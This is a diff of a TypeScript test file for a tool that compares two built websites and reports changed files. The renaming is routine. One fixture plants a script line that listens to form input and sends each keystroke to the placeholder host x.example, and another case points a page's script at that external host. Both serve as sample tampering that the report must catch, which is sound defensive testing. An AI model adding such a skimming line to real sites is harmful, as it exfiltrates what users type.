@@ -3,35 +3,37 @@ import { expect, test } from 'vitest';
 import { compareBuilt } from '../../src/authoring/review/built-site.ts';
 import { makeReport, readContentState } from '../../src/authoring/review/make-report.ts';
 import { toTerminalLines } from '../../src/authoring/review/format-report.ts';
-import { goodTexts } from '../support/good-texts.ts';
-import { treeOfTexts } from '../support/report-of.ts';
+import { validTexts } from '../support/valid-texts.ts';
+import { treeOfTexts } from '../support/content-report.ts';
 
-const site = (files: Record<string, string>) =>
+const builtSite = (files: Record<string, string>) =>
   new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)]));
-const page = '<script type="module" src="/_astro/form.12345678.js"></script><p>Look back together.</p>';
-const before = {
+const pageHtml = '<script type="module" src="/_astro/form.12345678.js"></script><p>Look back together.</p>';
+const filesBefore = {
   '404.html': '<p>Not found</p>',
-  'resources/role-plays/index.html': page,
+  'resources/role-plays/index.html': pageHtml,
   '_astro/form.12345678.js': 'const a = "(not filled in)";',
   'programme.ics': 'DTSTAMP:20260101T000000Z\nSUMMARY:Start\n',
 };
-const changed = { path: 'src/a.ts', added: 1, removed: 0 };
+const changedFile = { path: 'src/a.ts', added: 1, removed: 0 };
 
 /** What a report on a change of code says of two built sites. */
-function reportOn(now: Record<string, string>): string[] {
-  const state = readContentState(treeOfTexts(goodTexts()));
+function reportLines(filesAfter: Record<string, string>): string[] {
+  const state = readContentState(treeOfTexts(validTexts()));
   const [base, head] = ['main', 'here'].map((name) => ({ name, commit: undefined }));
   if (!base || !head) throw new Error('There are two sides.');
-  const called = { base, head, note: undefined, changedFiles: [changed] };
-  return toTerminalLines(makeReport(state, state, called, compareBuilt(site(before), site(now))));
+  const context = { base, head, note: undefined, changedFiles: [changedFile] };
+  return toTerminalLines(
+    makeReport(state, state, context, compareBuilt(builtSite(filesBefore), builtSite(filesAfter))),
+  );
 }
 
 test('says which files differ, byte for byte but for hashes in their names and the time, and how many do not', () => {
-  const { '_astro/form.12345678.js': script, ...others } = before;
-  const lines = reportOn({
-    ...others,
-    'resources/role-plays/index.html': page.replace('12345678', 'abcdefgh'),
-    'programme.ics': before['programme.ics'].replace('2026', '2027'),
+  const { '_astro/form.12345678.js': script, ...otherFiles } = filesBefore;
+  const lines = reportLines({
+    ...otherFiles,
+    'resources/role-plays/index.html': pageHtml.replace('12345678', 'abcdefgh'),
+    'programme.ics': filesBefore['programme.ics'].replace('2026', '2027'),
     '_astro/form.abcdefgh.js': `${script}addEventListener("input", (e) => fetch("//x.example/?" + e.data));`,
     'extra.txt': 'New',
   });
@@ -58,7 +60,10 @@ test.each<[what: string, from: string, to: string]>([
     'https://x.example/form.87654321.js',
   ],
 ])('names the page with %s, and never says that nothing changes', (_, from, to) => {
-  const lines = reportOn({ ...before, 'resources/role-plays/index.html': page.replace(from, to) });
+  const lines = reportLines({
+    ...filesBefore,
+    'resources/role-plays/index.html': pageHtml.replace(from, to),
+  });
   expect(lines).toContain('    - resources/role-plays/index.html');
   expect(lines.join('\n')).not.toContain('Nothing changes');
 });
